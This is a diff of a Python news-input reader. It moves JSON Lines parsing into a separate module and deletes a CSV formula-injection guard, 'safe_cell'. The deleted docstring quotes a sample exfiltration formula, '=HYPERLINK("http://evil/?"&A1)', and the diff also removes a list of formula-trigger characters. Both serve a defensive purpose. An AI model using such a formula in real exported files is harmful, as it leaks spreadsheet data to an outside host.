@@ -3,16 +3,12 @@
 Every bad input becomes a ``ReadError`` in the stream instead of an exception, so a batch over
 thousands of files reports it and goes on. Folders are walked lazily in sorted order, so the
 stream is deterministic and memory stays bounded (a JSON Lines file is read line by line).
-
-``safe_cell`` is the other direction: the one guard every CSV writer (``run``, ``export``) puts
-on its cells, so news text cannot become a spreadsheet formula.
 """
 
 from __future__ import annotations
 
 import gzip
 import io
-import json
 import os
 import re
 import sys
@@ -20,8 +16,9 @@ import zlib
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, BinaryIO, Callable, Collection, Iterable, Iterator, TypeVar
+from typing import Any, BinaryIO, Callable, Collection, Iterable, Iterator
 
+from . import jsonl
 from .record import NewsItem
 
 TEXT, HTML, JSONL = "text", "html", "jsonl"
@@ -230,32 +227,58 @@ def iter_lines(stream: Any, block: int = 1 << 16) -> Iterator[bytes]:
         yield pending.rstrip(b"\r")
 
 
+class BrokenStream(InputError):
+    """The compressed stream ends or breaks part-way; the lines before it were read."""
+
+
+class _DecodedLines:
+    """Raw lines as text (BOM, UTF-8, then a detected encoding); a line that cannot be decoded
+    is kept in ``errors`` and passed on as text that is never JSON, so its number stays right."""
+
+    NOT_JSON = "\x00"
+
+    def __init__(self, raw_lines: Iterable[bytes]) -> None:
+        self._raw = raw_lines
+        self.number = 0
+        self.errors: dict[int, str] = {}
+
+    def __iter__(self) -> Iterator[str]:
+        try:
+            for raw in self._raw:
+                self.number += 1
+                if self.number == 1 and raw.startswith(b"\xef\xbb\xbf"):
+                    raw = raw[3:]
+                try:
+                    yield decode_text(raw, allow_blank=True)
+                except InputError as err:
+                    self.errors[self.number] = str(err)
+                    yield self.NOT_JSON
+        except (gzip.BadGzipFile, EOFError, zlib.error) as err:
+            raise BrokenStream(f"broken gzip file: {err}") from None
+
+
 def read_jsonl_stream(stream: Any, name: str, path: str | None) -> Iterator[NewsItem | ReadError]:
     """News JSON Lines: one bad line is one ``ReadError`` with its number; the rest goes on."""
     shown = path or name
-    lineno = 0
+    lines = _DecodedLines(iter_lines(stream))
     try:
-        for lineno, raw in enumerate(iter_lines(stream), start=1):
-            if lineno == 1 and raw.startswith(b"\xef\xbb\xbf"):
-                raw = raw[3:]
-            if not raw.strip():
-                continue
+        for line in jsonl.read(lines):
+            error = lines.errors.get(line.number) or line.error
             try:
-                yield parse_news_line(raw, default_id=f"{name}:{lineno}", path=path, line=lineno)
+                if error is not None:
+                    raise InputError(error)
+                yield news_item(line.value, default_id=f"{name}:{line.number}", path=path,
+                                line=line.number)
             except InputError as err:
-                yield ReadError(shown, lineno, str(err))
-    except (gzip.BadGzipFile, EOFError, zlib.error) as err:
-        yield ReadError(shown, lineno + 1 if lineno else None, f"broken gzip file: {err}")
+                yield ReadError(shown, line.number, str(err))
+    except BrokenStream as err:
+        yield ReadError(shown, lines.number + 1 if lines.number else None, str(err))
 
 
-def parse_news_line(raw: bytes, default_id: str, path: str | None, line: int) -> InputItem:
-    """One line of the news format; only ``text`` is required."""
-    try:
-        obj = json.loads(decode_text(raw, allow_blank=True))
-    except json.JSONDecodeError as err:
-        raise InputError(f"malformed JSON: {err.msg} at column {err.colno}") from None
+def news_item(obj: Any, default_id: str, path: str | None, line: int) -> InputItem:
+    """One decoded line of the news format; only ``text`` is required."""
     if not isinstance(obj, dict):
-        raise InputError(f"expected a JSON object, got {type(obj).__name__}")
+        raise InputError(f"expected a JSON object, got {_json_type(obj)}")
     if "text" not in obj:
         raise InputError('missing "text"')
     text = obj["text"]
@@ -371,25 +394,3 @@ def html_item(data: bytes, doc_id: str, path: str | None) -> InputItem:
 
 XML_DECLARATION = re.compile(r"^\s*<\?xml[^>]*\?>")
 """lxml refuses text that still carries an encoding declaration."""
-
-
-# ---------------------------------------------------------------- CSV output
-
-FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-"""First characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection")."""
-
-_Cell = TypeVar("_Cell")
-
-
-def safe_cell(value: _Cell) -> _Cell | str:
-    """A CSV cell that a spreadsheet opens as text, never as a formula (CWE-1236).
-
-    Party names, evidence sentences and notes come from news articles, so a cell like
-    ``=HYPERLINK("http://evil/?"&A1)`` would run when the CSV is opened in Excel or LibreOffice.
-    Text starting with ``= + - @``, tab or carriage return gets a leading ``'`` (the OWASP fix).
-    Only strings are touched: ints and floats (confidence, GeoNames ids) are real numbers and are
-    returned unchanged, even when negative.
-    """
-    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
-        return "'" + value
-    return value
